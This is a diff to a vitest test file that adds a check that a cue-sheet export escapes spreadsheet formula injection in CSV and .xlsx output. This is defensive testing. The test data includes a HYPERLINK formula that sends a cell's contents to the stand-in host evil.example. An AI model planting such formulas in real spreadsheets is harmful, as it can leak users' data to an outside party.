@@ -1,5 +1,6 @@
 import ExcelJS from 'exceljs';
 import { eq } from 'drizzle-orm';
+import JSZip from 'jszip';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ProjectApi } from '../../src/domain/api/projects';
 import { tracks } from '../../server/db/schema/catalog';
@@ -58,6 +59,8 @@ describe.each(databaseTargets)('the cue sheet on %s', (target) => {
   let viewer: TestUser;
   let outsider: TestUser;
   let workspaceId: string;
+  let projectId: string;
+  let owner: TestUser;
 
   const call = (user: TestUser, method: Method, url: string, payload?: object) =>
     t.app.inject({ method, url: `/api${url}`, headers: user.headers(), ...(payload ? { payload } : {}) });
@@ -69,7 +72,7 @@ describe.each(databaseTargets)('the cue sheet on %s', (target) => {
       await createTestUser(t.database),
       await createTestUser(t.database),
     ];
-    const owner = await createTestUser(t.database, ['owner']);
+    owner = await createTestUser(t.database, ['owner']);
     const project = (
       await call(creator, 'POST', '/project/create', { name: 'Северный ветер', type: 'tv_series' })
     ).json() as ProjectApi;
@@ -81,6 +84,7 @@ describe.each(databaseTargets)('the cue sheet on %s', (target) => {
       })
     ).json() as ProjectApi;
     workspaceId = withEpisode.episodes[0]!.workspaceId!;
+    projectId = project._id;
     const email = ((await call(viewer, 'GET', '/user/info')).json() as { email: string }).email;
     await call(creator, 'POST', `/project/add-member/${project._id}`, { email, role: 'viewer' });
 
@@ -143,6 +147,48 @@ describe.each(databaseTargets)('the cue sheet on %s', (target) => {
     expect(rows[0]).toEqual(headings);
     expect(rows.slice(1).map((row) => row.slice(0, 5))).toEqual(expectedRows(rows[1]![3]!));
     expect(rows[2]!.slice(5)).toEqual(['', 'Background vocal', '00:10:00', '00:12:05', '00:02:05']);
+  });
+
+  it('neutralises titles a spreadsheet would run as formulas, in CSV and .xlsx (OWASP CSV injection)', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const episode = (
+      await call(creator, 'POST', `/project/create-episode/${projectId}`, { number: 3, duration: '00:50:00' })
+    ).json() as ProjectApi;
+    const sheetOf = episode.episodes.find((one) => one.number === 3)!.workspaceId!;
+    const titled = [
+      await createTrack(t.database, owner.id, evil),
+      await createTrack(t.database, owner.id, '-5'),
+    ];
+    const added = await call(creator, 'PATCH', `/project/add-track/${projectId}`, {
+      tracksId: titled.map((track) => track.id),
+      projectWorkspaceId: sheetOf,
+    });
+    expect(added.statusCode, added.body).toBe(200);
+
+    const csv = (await call(creator, 'GET', `/project/cue-sheet/${sheetOf}?format=csv`)).rawPayload.toString(
+      'utf8',
+    );
+    // The cue number stays a bare number; the text cells get a quote in front, inside double quotes.
+    expect(csv).toContain(`\r\n1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
+    expect(csv).toContain(`\r\n2,"'-5",`);
+    expect(parseCsv(csv.slice(1)).map((row) => row.slice(0, 2))).toEqual([
+      ['Cue #', 'Title'],
+      ['1', `'${evil}`],
+      ['2', "'-5"],
+    ]);
+
+    const res = await call(creator, 'GET', `/project/cue-sheet/${sheetOf}?format=xlsx`);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+    const cell = workbook.worksheets[0]!.getCell('B2');
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.value).toBe(evil);
+    const sheetXml = await (
+      await JSZip.loadAsync(res.rawPayload)
+    )
+      .file('xl/worksheets/sheet1.xml')!
+      .async('string');
+    expect(sheetXml).not.toContain('<f>');
   });
 
   it('refuses an unknown format with the documented wording, and an outsider with 404', async () => {
